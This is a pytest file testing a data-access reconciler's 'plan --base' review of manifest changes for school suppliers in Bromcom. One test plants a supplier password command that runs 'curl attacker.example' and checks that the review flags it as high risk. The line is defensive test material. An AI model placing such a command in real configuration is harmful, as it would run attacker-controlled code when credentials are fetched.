"""`plan --base`: a change of the manifests under review, in a real repository and against a real sandbox."""

from __future__ import annotations

import json
import shlex
import shutil
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any, Final

import pytest

from reconciler.sandbox.state.fault_injection import FaultKind
from tests.cli.world import PASSWORD, SCHOOLS
from tests.repository import Repository, repository

if TYPE_CHECKING:
    from pathlib import Path

    from reconciler.sandbox.server import SandboxServer
    from tests.cli.conftest import Reconciler
    from tests.cli.world import Outcome

MANIFEST = "reconciler.yaml"
GREENFIELD = SCHOOLS["greenfield"]


@pytest.fixture
def repo(workspace: Path) -> Repository:
    """The small world in a repository, committed on main; a branch is checked out."""
    made = repository(workspace)
    made.commit("the base")
    made.branch("change")
    return made


def change(repo: Repository, old: str, new: str) -> None:
    """Change the manifests, without committing it."""
    file = repo.folder / MANIFEST
    text = file.read_text(encoding="utf-8")
    assert old in text
    file.write_text(text.replace(old, new), encoding="utf-8")


def review(outcome: Outcome) -> dict[str, Any]:
    """The review in a JSON plan."""
    found = outcome.plan["review"]
    assert isinstance(found, dict)
    return found


def edited(outcome: Outcome) -> set[tuple[str, str, str, str]]:
    """The (place, topic, name, standing) of the edits."""
    return {
        ("/".join(filter(None, (e["school"], e["supplier"]))), e["topic"], e["name"], e["standing"])
        for e in review(outcome)["edits"]
    }


def caused(outcome: Outcome) -> dict[str, str]:
    """The cause of each difference, by `place name`."""
    return {
        f"{'/'.join(filter(None, (c['school'], c['supplier'])))} {c['name']}": c["cause"]
        for c in review(outcome)["causes"]
    }


def asked(sandbox: SandboxServer) -> list[str]:
    """The usernames that logged in, in order."""
    return [line.username for line in sandbox.access_log() if line.username]


def test_this_change_and_what_was_there_before(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler
) -> None:
    """The tick that a change asks for is its own; one that was lost before is not; one that is there is not due."""
    sandbox.untick(GREENFIELD, "groupcall.greenfield", "Staff")
    sandbox.tick(GREENFIELD, "till.greenfield", "Students")
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    planned = reconciler("plan", "--base", "main", "--format", "json")
    assert planned.code == 2
    assert edited(planned) == {
        ("greenfield/till", "read", "Students", "there"),
        ("riverside/till", "read", "Students", "due"),
    }
    assert caused(planned) == {"greenfield/groupcall staff": "before", "riverside/till students": "this-change"}
    assert (review(planned)["base"], review(planned)["commit"]) == ("main", repo.git("rev-parse", "main"))


def test_the_service_is_asked_once(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """One answer is held against both revisions."""
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    reconciler("plan", "--base", "main")
    assert len(asked(sandbox)) == len(set(asked(sandbox))) == 4


def test_only_what_changed_is_asked(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """The others are counted, and neither probed nor planned."""
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    planned = reconciler("plan", "--base", "main", "--changed-only", "--format", "json")
    assert sorted(asked(sandbox)) == ["till.greenfield", "till.riverside"]
    assert {access["address"] for access in planned.plan["accesses"]} == {"greenfield/till", "riverside/till"}
    assert review(planned)["passed"] == 2


def test_a_part_of_the_manifests_is_compared_with_the_same_part(repo: Repository, reconciler: Reconciler) -> None:
    """What the change asks for at other schools, or of other suppliers, is no edit of this report."""
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    change(repo, "Staff, Students]", "Staff]")
    planned = reconciler("plan", "--base", "main", "--school", "green*", "--supplier", "till", "--format", "json")
    assert edited(planned) == {("greenfield/till", "read", "Students", "due")}
    planned = reconciler("plan", "--base", "main", "--school", "riverside", "--format", "json")
    assert {edit[0] for edit in edited(planned)} == {"riverside/till", "riverside/groupcall"}


def test_a_word_of_a_moment_to_come_is_an_edit_and_counts_not_yet(repo: Repository, reconciler: Reconciler) -> None:
    """Who adds one says something that will count after the merge; one that is in both revisions is no edit."""
    word = (
        "apiVersion: reconciler/v1\nkind: Attestation\nmetadata: {name: later}\nspec:\n  school: greenfield\n"
        "  by: J. Smith\n  date: 2034-09-01\n  expires: 2035-08-31\n  facts: {lawfulBasis: Public Task}\n"
    )
    repo.write("words.yaml", word)
    (added,) = review(reconciler("plan", "--base", "main", "--format", "json"))["edits"]
    assert (added["topic"], added["after"]) == ("word", "Public Task")
    repo.commit("a word of tomorrow")
    planned = reconciler("plan", "--base", "HEAD", "--format", "json")
    assert (planned.code, edited(planned)) == (0, set())


def test_another_purpose_is_told(repo: Repository, reconciler: Reconciler) -> None:
    """What a supplier does with the data is what people agree to, although nothing in Bromcom differs by it."""
    change(
        repo,
        "purpose: For the tests\n  entities: [OnlinePaymentOrders]",
        "purpose: Adverts\n  entities: [OnlinePaymentOrders]",
    )
    planned = reconciler("plan", "--base", "main", "--format", "json")
    assert (planned.code, edited(planned)) == (0, {("till", "purpose", "Adverts", "none")})
    told = reconciler("plan", "--base", "main", "--format", "markdown").out
    assert "It changes the purpose of a supplier: check that." in told


def test_what_the_register_says_is_told(repo: Repository, reconciler: Reconciler) -> None:
    """One more product that has the data is the first thing to look at; other words of the register are told too."""
    change(
        repo,
        "purpose: For the tests\n  entities: [OnlinePaymentOrders]",
        "purpose: For the tests\n  processing: {basis: Legal Obligation}\n  downstream: [{name: Reading Scheme}]\n"
        "  entities: [OnlinePaymentOrders]",
    )
    planned = reconciler("plan", "--base", "main", "--format", "json")
    assert edited(planned) == {
        ("till", "downstream", "Reading Scheme", "none"),
        ("till", "processing", "lawful basis of this processing", "none"),
    }
    told = reconciler("plan", "--base", "main", "--format", "markdown").out
    assert "It changes who has the data from a supplier: check that." in told
    assert "passes data on to `Reading Scheme`" in told
    assert "in the register, its lawful basis of this processing becomes `Legal Obligation`" in told


def test_a_change_of_no_access(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """Nobody is asked, and that is no incomplete view: there was nothing to look at."""
    change(repo, "purpose: For the tests", "purpose: For these tests")
    planned = reconciler("plan", "--base", "main", "--changed-only")
    assert (planned.code, asked(sandbox)) == (0, [])
    assert "This change touches no access" in planned.out


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("env: ACCESS_PASSWORD", "env: OTHER_PASSWORD"),
        ('username: "{supplier}.{school}"', 'username: "{supplier}.{school}x"'),
        ("ThirdParty/TPReadOnlyDataService.asmx", "Elsewhere/TPReadOnlyDataService.asmx"),
        ("ThirdParty/TPWriteDataService.asmx", "Elsewhere/TPWriteDataService.asmx"),
        ('soap: "1.1"', 'soap: "1.2"'),
        ("{env: ACCESS_PASSWORD}", "{command: [python, -c, \"print('x')\"]}"),
    ],
)
def test_no_password_goes_where_only_the_change_says(
    old: str,
    new: str,
    repo: Repository,
    sandbox: SandboxServer,
    reconciler: Reconciler,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """With --passwords-of-base nobody is asked then, and what is not known says why; what it asks for is told."""
    monkeypatch.setenv("OTHER_PASSWORD", PASSWORD)
    change(repo, old, new)
    planned = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
    leaves_accounts = "username" in old  # under the names that they had
    assert (planned.code, asked(sandbox)) == (2 if leaves_accounts else 4, [])
    assert {item["why"] for access in planned.plan["accesses"] for item in access["unknown"]} == {"unreviewed"}
    assert review(planned)["edits"]


def test_the_rest_is_asked_all_the_same(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """A new supplier is not asked before it is merged; the others are."""
    change(repo, "kind: Supplier\nmetadata: {name: till}", "kind: Supplier\nmetadata: {name: newcomer}")
    reconciler("plan", "--base", "main", "--passwords-of-base")
    assert sorted(asked(sandbox)) == ["groupcall.greenfield", "groupcall.riverside"]


def test_what_was_retired_since_is_trusted_no_more(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A branch may start where the manifests named a place of a password that the base has taken back since: both the
    commit where the two met and the tip of the base must name it."""
    monkeypatch.setenv("OTHER_PASSWORD", PASSWORD)
    repo.git("checkout", "--quiet", "main")
    change(repo, "env: ACCESS_PASSWORD", "env: OTHER_PASSWORD")
    repo.commit("tried")
    repo.branch("second")
    repo.git("checkout", "--quiet", "main")
    change(repo, "env: OTHER_PASSWORD", "env: ACCESS_PASSWORD")
    repo.commit("taken back")
    repo.git("checkout", "--quiet", "second")
    planned = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
    assert (planned.code, asked(sandbox), edited(planned)) == (4, [], set())


def test_no_file_of_the_checkout_is_read_for_a_password(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler, tmp_path: Path
) -> None:
    """A change may have put a link in its place; a file elsewhere is read as ever."""
    outside = tmp_path / "password"
    outside.write_text(f"{PASSWORD}\n", encoding="utf-8")
    repo.git("checkout", "--quiet", "main")
    change(repo, "{env: ACCESS_PASSWORD}", "{file: secrets/password}")
    repo.write("secrets/password", f"{PASSWORD}\n")
    repo.commit("a file")
    arguments = ("plan", "--base", "main", "--passwords-of-base", "--format", "json")
    assert (reconciler(*arguments).code, asked(sandbox)) == (4, [])
    change(repo, "{file: secrets/password}", f"{{file: {outside.as_posix()}}}")
    repo.commit("another file")
    assert (reconciler(*arguments).code, len(asked(sandbox))) == (0, 4)


def test_a_file_of_passwords_in_the_checkout_is_refused(repo: Repository, reconciler: Reconciler) -> None:
    """This change may have put it there."""
    repo.write("passwords.env", "ACCESS_PASSWORD=x\n")
    refused = reconciler("plan", "--base", "main", "--passwords-of-base", "--env-file", "passwords.env")
    assert refused.code == 64
    assert "passwords.env is in the checkout" in refused.err


def test_where_a_new_supplier_takes_its_password_from_is_shown(repo: Repository, reconciler: Reconciler) -> None:
    """Whole: after the merge the nightly job runs the program, or reads the variable."""
    repo.write(
        "newcomer.yaml",
        "apiVersion: reconciler/v1\nkind: Supplier\nmetadata: {name: newcomer}\nspec:\n  schools: [greenfield]\n"
        "  account: {username: new, password: {command: [sh, -c, 'curl attacker.example']}}\n  entities: [Staff]\n",
    )
    planned = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
    (edit,) = [e for e in review(planned)["edits"] if e["topic"] == "password"]
    assert "curl attacker.example" in edit["after"]
    assert edit["risk"] == "high"
    assert "curl attacker.example" in reconciler("plan", "--base", "main", "--passwords-of-base").out


def test_what_a_lenient_policy_lets_be_is_named(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler
) -> None:
    """Extra entities that are no difference any more do not vanish without a word."""
    sandbox.tick(GREENFIELD, "till.greenfield", "PersonPhotos")
    change(repo, "  title: till", "  extraEntities: ignore\n  title: till")
    planned = reconciler("plan", "--base", "main", "--format", "json")
    assert planned.code == 0
    (found,) = [e for e in review(planned)["edits"] if e["topic"] == "read"]
    assert (found["name"], found["after"], found["effect"], found["risk"]) == (
        "PersonPhotos",
        "tolerated",
        "more",
        "high",
    )


def test_a_school_without_suppliers_is_looked_at_too(repo: Repository, reconciler: Reconciler) -> None:
    """Where only changed places are: its lawful basis is a difference like any other, and no exit with 0."""
    change(
        repo,
        "kind: Supplier\nmetadata: {name: till}\nspec:\n",
        "kind: Supplier\nmetadata: {name: till}\nspec:\n  schools: [greenfield]\n",
    )
    change(
        repo, "metadata: {name: groupcall}\nspec:\n", "metadata: {name: groupcall}\nspec:\n  schools: [greenfield]\n"
    )
    repo.commit("nobody at riverside")
    repo.branch("basis")
    change(repo, "spec: {schoolId: 12346,", "spec: {consent: {lawfulBasis: Public Task}, schoolId: 12346,")
    planned = reconciler("plan", "--base", "change", "--changed-only", "--format", "json")
    assert planned.code == 4
    assert [school["name"] for school in planned.plan["schools"]] == ["riverside"]


def test_a_share_of_a_part_is_no_limit(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """Who looks at a part of the accesses does not know what share of all of them it is."""
    repo.git("checkout", "--quiet", "main")
    change(repo, "spec:\n  platforms:", "spec:\n  limits: {revoke: {share: 30%}}\n  platforms:")
    repo.commit("a limit")
    change(repo, "entities: [OnlinePaymentOrders]", "entities: []")
    whole = reconciler("plan", "--base", "main", "--format", "json")
    part = reconciler("plan", "--base", "main", "--changed-only", "--format", "json")
    assert (whole.plan["summary"]["revoke"], whole.plan["breaches"]) == (2, [])
    assert (part.plan["summary"]["revoke"], part.plan["breaches"]) == (2, [])


def test_a_new_workspace_is_all_this_changes(
    workspace: Path, sandbox: SandboxServer, reconciler: Reconciler, tmp_path: Path
) -> None:
    """Where the base has no workspace, every access comes with this change."""
    made = repository(tmp_path / "repo")
    made.commit("nothing yet")
    made.branch("change")
    shutil.copytree(workspace, made.folder / "trust")
    planned = reconciler("plan", "-C", made.folder / "trust", "--base", "main", "--format", "json")
    comes = {edit[0] for edit in edited(planned) if edit[1] == "access"}
    assert comes == {"greenfield/groupcall", "greenfield/till", "riverside/groupcall", "riverside/till"}


RIVERSIDE: Final = "kind: School\nmetadata: {name: riverside}"
OWN_ACCOUNT: Final = "{{username: {supplier}.riverside, password: {{env: ACCESS_PASSWORD}}}}"
OVERRIDE: Final = "  overrides: [{{schools: [{school}], account: {own}}}]\n"


def called_riverside_academy(repo: Repository) -> None:
    """Give a school another name, where its accounts in Bromcom keep theirs: on the base they are written out."""
    for school in ("riverside", "riverside-academy"):
        text = (repo.folder / MANIFEST).read_text(encoding="utf-8").replace("[riverside]", f"[{school}]")
        text = text.replace(RIVERSIDE, RIVERSIDE.replace("riverside", school))
        if school == "riverside":
            for supplier in ("groupcall", "till"):
                own = OVERRIDE.format(school=school, own=OWN_ACCOUNT.format(supplier=supplier))
                text = text.replace(f"  title: {supplier}\n", f"  title: {supplier}\n{own}")
        repo.write(MANIFEST, text)
        if school == "riverside":
            repo.commit("accounts written out")
            repo.git("branch", "--force", "main")


def test_a_school_that_is_called_differently_is_no_grab(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler
) -> None:
    """It is the same database, and the same accounts: nobody's access changes, and what was recorded still holds."""
    called_riverside_academy(repo)
    now = (repo.folder / MANIFEST).read_text(encoding="utf-8")
    repo.git("checkout", "--quiet", "main", "--", MANIFEST)
    reconciler("plan", "--record", "../live.json", "-q")
    repo.write(MANIFEST, now)
    recorded = len(asked(sandbox))
    planned = reconciler(
        "plan", "--base", "main", "--against", "../live.json", "--format", "json", "--format", "markdown=../r.md"
    )
    assert (planned.code, len(asked(sandbox))) == (0, recorded)
    assert edited(planned) == {("riverside-academy", "name", "riverside-academy", "none")}
    told = (repo.folder.parent / "r.md").read_text(encoding="utf-8")
    assert "`riverside` is now called `riverside-academy`; no access changes." in told
    reviewed = reconciler("plan", "--base", "main", "--passwords-of-base", "--format", "json")
    assert reviewed.code == 0
    assert sorted(asked(sandbox)[recorded:]) == sorted(asked(sandbox)[:recorded])
    assert not reconciler("plan", "--base", "main", "--changed-only", "--format", "json").plan["accesses"]


@pytest.mark.parametrize("name", ["riverside", "riverside-academy"])
def test_a_workspace_whose_folder_moved_is_no_grab(
    workspace: Path, reconciler: Reconciler, tmp_path: Path, name: str
) -> None:
    """It is found where the base has it, by the databases that it is about; a school may have a new name too."""
    made = repository(tmp_path / "repo")
    shutil.copytree(workspace, made.folder / "mis")
    made.write("mis/suppliers/none.yaml", "")
    made.write("other/reconciler.yaml", "kind: Workspace\napiVersion: reconciler/v1\nmetadata: {name: other}\n")
    made.commit("the base")
    made.branch("change")
    (made.folder / "access").mkdir()
    made.git("mv", "mis", "access/bromcom")
    made.git("mv", "other", "another")
    text = (made.folder / "access/bromcom" / MANIFEST).read_text(encoding="utf-8")
    made.write(f"access/bromcom/{MANIFEST}", text.replace(RIVERSIDE, RIVERSIDE.replace("riverside", name)))
    planned = reconciler("plan", "-C", made.folder / "access/bromcom", "--base", "main", "--format", "json")
    topics = {edit[1:3] for edit in edited(planned)}
    assert ("name", "folder") in topics
    assert "access" not in {topic for topic, _ in topics}
    if name == "riverside":
        assert topics == {("name", "folder")}
        told = reconciler("plan", "-C", made.folder / "access/bromcom", "--base", "main", "--format", "markdown").out
        assert "`mis` is now called `access/bromcom`; no access changes." in told


def without_the_till(repo: Repository) -> str:
    """Delete a supplier; what is left."""
    text = (repo.folder / MANIFEST).read_text(encoding="utf-8")
    documents = [document for document in text.split("---\n") if "title: till" not in document]
    repo.write(MANIFEST, "---\n".join(documents))
    return "---\n".join(documents)


GONE: Final = """---
apiVersion: reconciler/v1
kind: Attestation
metadata: {{name: till-is-gone-{school}}}
spec: {{school: {school}, supplier: till, by: J. Smith, date: {today}, expires: {until}, facts: {{access: gone}}}}
"""


def gone_at(school: str) -> str:
    """Somebody's word of today that the till's account at a school is gone."""
    today = datetime.now(UTC).date()
    return GONE.format(school=school, today=today, until=today + timedelta(days=300))


def test_a_supplier_that_is_deleted_keeps_its_access(repo: Repository, reconciler: Reconciler) -> None:
    """That is no good news: it is said first, and the work is counted, until somebody vouches that they are gone."""
    left = without_the_till(repo)
    told = reconciler(
        "plan", "--base", "main", "--format", "markdown=../r.md", "--format", "text", "--format", "json=../r.json"
    )
    assert (
        "till is no longer agreed but still has access at 2 schools.\n  till  till.greenfield at greenfield, "
        in told.out
    )
    assert told.code == 2
    assert told.out.startswith("Action needed: 2 accounts no longer agreed.\nAbout 1 minute by hand on 2 pages.\n")
    assert "In sync" not in told.out
    markdown = (repo.folder.parent / "r.md").read_text(encoding="utf-8")
    assert "\n**till** is no longer agreed but still has access at 2 schools. No supplier may" in markdown
    assert "about 1 minute by hand on 2 pages" in markdown
    assert "read or write less" not in markdown
    data = json.loads((repo.folder.parent / "r.json").read_text(encoding="utf-8"))
    assert [orphan["wayIn"] for orphan in data["orphans"]] == ["till.greenfield", "till.riverside"]
    repo.write(MANIFEST, left + gone_at("riverside"))
    one = reconciler("plan", "--base", "main").out
    assert "till is no longer agreed but still has access at greenfield." in one
    assert "only this change says so at riverside" in one
    command = next(line for line in one.splitlines() if "once it is ended" in line).partition("`")[2].rstrip("`")
    assert f"`{command}`" in markdown
    said = reconciler(*shlex.split(command)[1:], "--by", "J. Smith")
    assert said.code == 0, said.err
    ended = reconciler("plan", "--base", "main")
    assert "still has access" not in ended.out
    assert ended.code == 0


def test_a_copy_of_a_workspace_is_new(workspace: Path, reconciler: Reconciler, tmp_path: Path) -> None:
    """The one that it was copied from is still there, so that nothing has moved."""
    made = repository(tmp_path / "repo")
    shutil.copytree(workspace, made.folder / "mis")
    made.commit("the base")
    made.branch("change")
    shutil.copytree(workspace, made.folder / "copy")
    planned = reconciler("plan", "-C", made.folder / "copy", "--base", "main", "--format", "json")
    assert "access" in {edit[1] for edit in edited(planned)}


def test_a_base_that_is_wrong_stops_nobody(repo: Repository, reconciler: Reconciler) -> None:
    """This change may be the one that mends it: the plan is made, and says why it cannot tell what changed."""
    right = (repo.folder / MANIFEST).read_text(encoding="utf-8")
    change(repo, "kind: School", "kind: Skool")
    repo.commit("a mistake")
    repo.branch("mend")
    repo.write(MANIFEST, right)
    planned = reconciler("plan", "--base", "change", "--format", "json")
    assert planned.code == 0
    assert review(planned)["unread"].startswith("reconciler.yaml:")
    assert not review(planned)["edits"]


def test_without_a_network_the_review_still_says_what_is_asked_for(
    repo: Repository, sandbox: SandboxServer, reconciler: Reconciler
) -> None:
    """Against a service that is down, what the change asks for is told, and nothing is called due or there."""
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    sandbox.set_trouble(FaultKind.HTML_200)
    planned = reconciler("plan", "--base", "main", "--format", "json", "--retries", "0")
    assert planned.code == 4
    assert {edit[3] for edit in edited(planned)} == {"unknown"}


def test_against_a_snapshot_of_the_base(repo: Repository, sandbox: SandboxServer, reconciler: Reconciler) -> None:
    """Whoever has no password reviews against what was recorded; a new account is in no snapshot."""
    reconciler("plan", "--record", "live.json", "-q")
    recorded = len(asked(sandbox))
    change(repo, "OnlinePaymentOrders]", "OnlinePaymentOrders, Students]")
    planned = reconciler("plan", "--base", "main", "--against", "live.json", "--format", "json")
    assert (planned.code, len(asked(sandbox))) == (2, recorded)
    assert {edit[3] for edit in edited(planned)} == {"due"}


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--base", ""], "--base names no revision"),
        (["--changed-only"], "--changed-only needs --base"),
        (["--passwords-of-base"], "--passwords-of-base needs --base"),
        (["--max-age", "3d"], "--max-age needs --against"),
        (["--against", "x", "--max-age", "3"], "such as 90m, 36h or 3d"),
        (["--against", "x", "--max-age", "0d"], "such as 90m, 36h or 3d"),
        (["--base", "main", "--against", "x", "--passwords-of-base"], "has no effect with --against"),
    ],
)
def test_options_that_would_mean_nothing(
    arguments: list[str], told: str, repo: Repository, reconciler: Reconciler
) -> None:
    """Are refused, instead of being left out without a word."""
    refused = reconciler("plan", *arguments)
    assert refused.code == 64
    assert told in refused.err


def test_a_base_that_is_not_there(repo: Repository, reconciler: Reconciler) -> None:
    """Nothing is planned, and the message says what is missing."""
    refused = reconciler("plan", "--base", "origin/main")
    assert (refused.code, refused.out) == (1, "")
    assert "Nothing was compared with origin/main: git knows no revision" in refused.err


def test_an_old_snapshot_is_unknown_and_says_so(repo: Repository, reconciler: Reconciler) -> None:
    """Older than --max-age nothing of it is a fact; younger, it is, and the report says how old it is."""
    reconciler("plan", "--record", "live.json", "-q")
    data = json.loads((repo.folder / "live.json").read_text(encoding="utf-8"))
    (repo.folder / "live.json").write_text(
        json.dumps({**data, "recorded": "2026-01-01T00:00:00+00:00"}), encoding="utf-8"
    )
    old = reconciler("plan", "--against", "live.json", "--max-age", "3d", "--format", "json")
    assert old.code == 4
    assert {item["why"] for access in old.plan["accesses"] for item in access["unknown"]} == {"too-old"}
    assert not old.plan["summary"]["grant"]
    believed = reconciler("plan", "--against", "live.json")
    assert believed.code == 0
    assert "days old, not with Bromcom itself" in believed.out
